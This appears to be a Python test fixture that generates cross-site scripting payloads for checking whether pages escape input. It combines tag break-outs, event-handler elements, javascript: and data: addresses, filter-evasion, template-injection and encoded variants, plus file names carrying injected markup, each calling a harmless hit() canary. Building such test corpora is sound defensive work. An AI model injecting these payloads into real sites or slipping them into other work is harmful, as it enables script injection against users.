"""Texts that would run a script if a page took them for anything but text. Each calls hit(), should it run."""

from itertools import product

RUN = "hit()"
EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "onpointerenter", "ontoggle", "onanimationstart", "onbegin")
ELEMENTS = (
    "<img src=x {event}={run}>",
    "<svg {event}={run}>",
    "<svg><animate attributeName=x dur=1s {event}={run}>",
    "<details open {event}={run}>",
    "<input autofocus {event}={run}>",
    "<body {event}={run}>",
    "<video><source {event}={run}></video>",
    "<iframe srcdoc='<script>parent.{run}</script>' {event}={run}>",
)
BREAKS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>")
"""What would end the place where the text stands."""
WHOLE = (
    f"<script>{RUN}</script>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<base href='javascript:{RUN}//'>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<form action=javascript:{RUN}><button autofocus>x",
    f"<link rel=stylesheet href=javascript:{RUN}>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"'-{RUN}-'",
    f'"+{RUN}+"',
    f"`${{{RUN}}}`",
    f"{{ {RUN} }}",
    f"\u2066<img src=x onerror={RUN}>\u2069",
    f"＜script＞{RUN}＜/script＞",
)
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f" javascript:{RUN}",
    f"javascript://example.org/%0a{RUN}",
    f"data:text/html,<script>parent.{RUN}</script>",
    f"vbscript:{RUN}",
    f"blob:javascript:{RUN}",
)
"""For whatever was an address."""
TEXTS = [
    *(brk + element.format(event=event, run=RUN) for brk, element, event in product(BREAKS, ELEMENTS, EVENTS)),
    *(brk + whole for brk, whole in product(("", '">'), WHOLE)),
]
FILE_NAMES = [f"{text.replace('/', chr(0x2215))}.pdf" for text in TEXTS]
"""A file is named by whoever sends it; the one character that no name has is replaced."""
